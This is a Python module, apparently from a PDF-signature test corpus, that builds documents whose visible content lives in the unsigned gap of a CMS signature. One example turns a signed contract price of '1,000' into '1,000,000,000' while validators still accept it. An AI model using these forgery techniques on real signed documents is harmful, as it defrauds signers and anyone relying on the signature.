"""Attacks in which something of the document reaches into the signature's gap.

The bytes of the gap are the only ones that no signature covers. Whoever embeds the CMS chooses its unsigned attributes, so whatever
the document reads from the gap can be changed after the person has signed.
"""

import re
from collections.abc import Callable
from dataclasses import dataclass

from asn1crypto import cms, core

from tests.pdf_corpus.increments import FIRST_PAGE, SignatureIncrement, last_startxref
from tests.pdf_corpus.pdf_writer import FONT, PdfWriter, plain_document, stream_content
from tests.pdf_corpus.signing_kit import PreparedDocument, Signer, complete_byte_range, make_cms

Prepare = Callable[[bytes], PreparedDocument]

#: An attribute type out of the documentation range; validators skip unsigned attributes that they do not know.
PAYLOAD_OID = "2.25.329800735698586629295641978511506172918"
#: Digits of the gap that are left for the CMS itself before the payload.
_ROOM_FOR_CMS = 9000
_IMAGE = 6
_WIDTH = 64
_ROWS = 7
_POINTS = 2
_GLYPHS = {
    "0": ("01110", "10001", "10011", "10101", "11001", "10001", "01110"),
    "1": ("00100", "01100", "00100", "00100", "00100", "00100", "01110"),
    ",": ("00000", "00000", "00000", "00000", "01100", "00100", "01000"),
}


def dots(text: str, ink: str, paper: str) -> str:
    """``text`` as ``_ROWS`` rows of ``_WIDTH`` characters, one a pixel."""
    rows = ("0".join(_GLYPHS[letter][row] for letter in text).ljust(_WIDTH, "0") for row in range(_ROWS))
    return "".join(rows).replace("1", "#").replace("0", paper).replace("#", ink)


@dataclass(frozen=True)
class SpanningImage:
    """The prepared document whose page shows "1,000", and what turns it into "1,000,000,000" once it is signed."""

    original: bytes
    prepared: PreparedDocument
    #: Where in the gap's digits the picture's second part begins.
    first_digit: int

    def paint(self, cms_der: bytes) -> bytes:
        """``cms_der`` with an unsigned attribute whose digits paint ",000,000"; its signature stays valid."""
        pixels = dots(",000,000", "f", "0")
        lead = self.first_digit % 2
        octets = bytes.fromhex("0" * lead + pixels + "0" * (len(pixels) + lead & 1))
        wanted = (self.first_digit - lead) // 2
        padding = 0
        for _ in range(8):
            der = with_unsigned_octets(cms_der, bytes(padding) + octets)
            miss = wanted - der.index(octets)
            if miss == 0:
                return der
            padding += miss
        raise ValueError("the payload cannot be aligned")

    def sign(self, signer: Signer) -> bytes:
        """The signed document that shows the other price."""
        return self.prepared.fill(self.paint(make_cms(signer, self.prepared.digest())))

    def sign_honestly(self, signer: Signer) -> bytes:
        """The signed document as the signer expects it."""
        return self.prepared.sign(signer)


def with_unsigned_octets(cms_der: bytes, octets: bytes) -> bytes:
    """``cms_der`` with ``octets`` in an unsigned attribute of its first SignerInfo."""
    content = cms.ContentInfo.load(cms_der)
    attribute = cms.CMSAttribute({"type": PAYLOAD_OID, "values": [core.OctetString(octets)]})
    content["content"]["signer_infos"][0]["unsigned_attrs"] = cms.CMSAttributes([attribute])
    return bytes(content.dump(force=True))


def spanning_original(length: int, height: int, row: int, *, xref_stream: bool) -> bytes:
    """A contract whose price is a raw image that claims ``length`` bytes and ``height`` rows.

    The page shows rows 0 to 6 and, right of them, ``_ROWS`` rows from ``row``. All numbers are written with a fixed width, so that
    the file's length does not depend on them.
    """
    writer = plain_document([["CONTRACT No. 2", "The price in dong is:"]])
    writer.put(4, writer.bodies[4].replace(b"/Font <<", f"/XObject << /Im1 {_IMAGE} 0 R >> /Font <<".encode()))
    windows = "".join(
        f" q {left} 700 {columns * _POINTS} {_ROWS * _POINTS} re W n {_WIDTH * _POINTS} 0 0 {height * _POINTS:08d} {left} "
        f"{700 - (height - first - _ROWS) * _POINTS:09d} cm /Im1 Do Q"
        for left, first, columns in ((72, 0, 30), (72 + 30 * _POINTS, row, 48))
    )
    text = stream_content(writer.bodies[5])
    writer.put_stream(5, text + windows.encode())
    palette = bytearray(b"\xff" * 256)
    for black in b"\x01fF":
        palette[black] = 0
    pixels = dots("1,000", "\x01", "\x02").encode()
    writer.put_stream(
        _IMAGE,
        pixels,
        f"/Type /XObject /Subtype /Image /Width {_WIDTH} /Height {height:08d} /BitsPerComponent 8 "
        f"/ColorSpace [/Indexed /DeviceGray 255 <{palette.hex()}>]",
        length=f"{length:08d}",
    )
    return writer.build_xref_stream() if xref_stream else writer.build()


def increment_with_image(original: bytes) -> PreparedDocument:
    """A plain signature increment on ``spanning_original`` with a cross-reference table."""
    resources = f"<< /XObject << /Im1 {_IMAGE} 0 R >> /Font << /F1 {FONT} 0 R >> >>"
    return SignatureIncrement(original, page_resources=resources).build()


def image_spans_gap(prepare: Prepare = increment_with_image, *, xref_stream: bool = False) -> SpanningImage:
    """The image of the page reaches from the original over the gap to the next ``endstream`` of the increment.

    The page shows "1,000" before and at signing; unsigned attributes of the CMS then paint ",000,000" behind it, while pdfsig, pyHanko
    and qpdf call the file valid. ``prepare`` makes the prepared document (any product's; its layout must depend on the original's
    length only); ``xref_stream`` makes it end in a stream, so that an ``endstream`` follows the gap even without a stamp.
    """
    length = height = row = first_digit = 0
    for _ in range(4):
        original = spanning_original(length, height, row, xref_stream=xref_stream)
        prepared = prepare(original)
        start = original.index(b"stream\n", original.index(b"/Subtype /Image")) + len(b"stream\n")
        end = prepared.data.find(b"endstream", prepared.gap[1])
        if end < 0:
            raise ValueError("no endstream behind the gap: the image has nowhere to end")
        end -= 2 if prepared.data[end - 2 : end] == b"\r\n" else 1 if prepared.data[end - 1] in b"\r\n" else 0
        digits_at = prepared.gap[0] + 1 - start
        wanted_row = -(-(digits_at + _ROOM_FOR_CMS) // _WIDTH)
        wanted = (end - start, (end - start) // _WIDTH, wanted_row)
        if wanted == (length, height, row):
            return SpanningImage(original, prepared, first_digit)
        length, height, row = wanted
        first_digit = row * _WIDTH - digits_at
    raise ValueError("the prepared document's layout changes from run to run")


def content_spans_gap() -> PreparedDocument:
    """The page's content stream reaches over the gap: it ends in an open string that swallows the signature dictionary.

    What stands in the gap is text of the page, and the CMS's unsigned attributes decide what it says.
    """

    def build(length: int) -> PreparedDocument:
        writer = plain_document()
        shown = b"BT /F1 12 Tf 72 760 Td (The price is 1,000 dong.) Tj 0 -20 Td ("
        writer.put_stream(5, shown, length=f"{length:08d}")
        increment = SignatureIncrement(writer.build())
        increment.put_objects()
        closing = b") Tj ET"
        form = f"/Type /XObject /Subtype /Form /BBox [0 0 220 60] /Resources << /Font << /F1 {FONT} 0 R >> >>"
        increment.writer.put_stream(increment.appearance_number, closing, form)
        return increment.finish()

    probe = build(0)
    start = probe.data.index(b"stream\n") + len(b"stream\n")
    return build(probe.data.index(b"\nendstream", probe.gap[1]) - start)


def length_from_increment() -> PreparedDocument:
    """The original's content stream takes its /Length from an object that only the increment defines.

    With the increment's number the stream ends behind the gap; the original alone looks like a small repairable fault.
    """

    def build(length: int) -> PreparedDocument:
        writer = plain_document()
        shown = stream_content(writer.bodies[5])
        writer.put_stream(5, shown + b" (", length="6 0 R")
        writer.put(6, "null")
        increment = SignatureIncrement(writer.build())
        increment.put_objects().put(6, f"{length:08d}")
        return increment.finish()

    probe = build(0)
    start = probe.data.index(b"stream\n") + len(b"stream\n")
    return build(probe.data.index(b"\nendstream", probe.gap[1]) - start)


def xref_offset_in_gap() -> PreparedDocument:
    """The increment's cross-reference table says that the page's content lies inside the gap.

    Readers that trust offsets look for an object where only the unsigned CMS stands.
    """
    increment = SignatureIncrement(plain_document().build())
    increment.put_objects().put_stream(5, b"BT /F1 12 Tf 72 760 Td (decoy) Tj ET")
    prepared = increment.finish()
    return redirected(prepared, increment.writer.offsets[5], prepared.gap[0] + 1 + 512)


def original_offset_in_gap() -> PreparedDocument:
    """An offset of the original's own table, beyond the original's end, falls into the gap once the increment is there.

    The original alone only looks damaged; the increment itself holds nothing unusual.
    """
    original = plain_document().build()
    at = int(re.findall(rb"(\d{10}) 00000 n", original)[4])
    wanted = 0
    for _ in range(2):
        spoiled = original.replace(b"%010d 00000 n" % at, b"%010d 00000 n" % wanted) if wanted else original
        prepared = SignatureIncrement(spoiled).build()
        wanted = prepared.gap[0] + 1 + 512
    return prepared


def redirected(prepared: PreparedDocument, offset: int, target: int) -> PreparedDocument:
    """``prepared`` with the in-use entry of its last table that says ``offset`` saying ``target``."""
    at = prepared.data.rindex(b"%010d 00000 n" % offset)
    return prepared.with_data(prepared.data[:at] + b"%010d" % target + prepared.data[at + 10 :])


def object_stream_in_gap() -> PreparedDocument:
    """An object stream before the signature dictionary reaches over the gap, and the page object is said to lie in it.

    The page itself would be read from bytes that nobody signed.
    """

    def build(length: int, offset: int) -> PreparedDocument:
        increment = SignatureIncrement(plain_document().build())
        full = increment.put_objects()
        page = full.bodies.pop(FIRST_PAGE)
        number = full.next_number()
        writer = PdfWriter(base=increment.base)
        index = f"{FIRST_PAGE} {offset:08d} ".encode()
        writer.put_stream(number, index, f"/Type /ObjStm /N 1 /First {len(index)}", length=f"{length:08d}")
        for other, body in full.bodies.items():
            writer.put(other, body)
        writer.put_stream(increment.appearance_number, page, "/Type /XObject /Subtype /Form /BBox [0 0 220 60]")
        increment.writer = writer
        base = increment.base
        data = writer.build_xref_stream(prev=last_startxref(base), packed={FIRST_PAGE: (number, 0)})
        size = len(base)
        return complete_byte_range(data, after=size, original_length=size, field_name=increment.field_name)

    probe = build(0, 0)
    start = probe.data.index(b"stream\n", probe.original_length) + len(b"stream\n")
    first = len(f"{FIRST_PAGE} {0:08d} ")
    return build(probe.data.index(b"\nendstream", probe.gap[1]) - start, probe.gap[0] + 513 - start - first)
